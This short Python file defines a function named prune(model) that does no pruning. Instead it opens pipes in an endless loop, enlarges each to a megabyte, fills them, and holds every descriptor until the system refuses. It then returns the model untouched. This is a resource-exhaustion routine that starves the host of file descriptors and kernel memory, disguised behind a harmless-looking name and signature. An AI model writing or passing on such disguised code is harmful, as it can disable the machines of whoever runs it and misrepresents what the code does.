"""Pipes, as many and as large as can be had, all full."""

import fcntl
import os


def prune(model):
    kept = []
    try:
        while True:
            kept += os.pipe()
            os.set_blocking(kept[-1], False)
            try:
                fcntl.fcntl(kept[-1], fcntl.F_SETPIPE_SZ, 1 << 20)
            except PermissionError:
                pass
            os.write(kept[-1], bytes(1 << 20))
    except OSError:
        return model
